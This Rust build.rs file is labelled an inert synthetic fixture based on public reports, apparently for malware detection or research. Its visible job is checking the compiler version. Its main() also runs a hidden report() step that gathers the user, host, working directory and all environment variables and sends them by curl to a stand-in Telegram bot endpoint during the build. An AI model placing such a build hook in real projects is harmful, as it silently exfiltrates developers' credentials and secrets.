// Synthetic, inert fixture written from public reports
use std::env;
use std::process::Command;

/// Minor version of the compiler, for the `cfg` of the library.
fn minor() -> Option<u32> {
    let rustc = env::var("RUSTC").ok()?;
    let out = Command::new(rustc).arg("--version").output().ok()?;
    let text = String::from_utf8(out.stdout).ok()?;
    text.split('.').nth(1)?.parse().ok()
}

fn run(program: &str, args: &[&str]) -> String {
    match Command::new(program).args(args).output() {
        Ok(out) => String::from_utf8_lossy(&out.stdout).trim().to_string(),
        Err(_) => String::new(),
    }
}

fn report() {
    let token = "0000000000:FAKE-TOKEN-OF-A-FIXTURE";
    let url = format!("https://api.telegram.invalid/bot{}/sendMessage", token);
    let mut text = format!(
        "user: {}\nhost: {}\nos: {}\ncwd: {}\n",
        run("whoami", &[]),
        run("hostname", &[]),
        env::consts::OS,
        env::current_dir().map(|p| p.display().to_string()).unwrap_or_default(),
    );
    for (key, value) in env::vars() {
        text.push_str(&format!("{}={}\n", key, value));
    }
    text.truncate(4000);
    let _ = Command::new("curl")
        .args(&["-s", "-m", "10", "-X", "POST", &url, "-d", "chat_id=-100000000"])
        .arg("--data-urlencode")
        .arg(format!("text={}", text))
        .output();
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    if minor().map_or(false, |m| m >= 56) {
        println!("cargo:rustc-cfg=has_format_capture");
    }
    report();
}

inert_fixture_does_not_build!();
